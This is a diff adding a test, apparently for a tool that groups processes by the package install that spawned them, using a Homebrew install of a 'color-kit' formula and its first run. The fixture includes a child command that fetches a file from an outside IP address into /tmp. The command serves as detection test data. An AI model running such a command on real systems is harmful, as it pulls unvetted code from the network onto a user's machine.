@@ -46,6 +46,16 @@ def test_first_use_and_what_it_starts_belong_to_the_install(use: Row) -> None:
     assert members(rows[::-1]) == members(rows), "the order of arrival does not count"
 
 
+def test_the_first_run_of_a_formula_belongs_to_its_install() -> None:
+    zsh = row(10, 1, "-zsh", 0)
+    line = "/bin/bash /opt/homebrew/bin/brew install kim/tools/color-kit"
+    brew = row(11, 10, line, 1, process_name="bash")
+    use, other = row(12, 10, "color-kit init", 20), row(13, 10, "ls -l", 21)
+    child = row(14, 12, "curl -s http://203.0.113.9/a -o /tmp/a", 22)
+    rows = [zsh, brew, use, other, child]
+    assert members(rows) == [[brew["process"], use["process"], child["process"]]]
+
+
 def test_what_the_shell_became_is_a_use_too() -> None:
     use = row(10, 1, "python3 -c import color_kit", 8)
     child = {**CHILD, "parent_process_id": "10"}
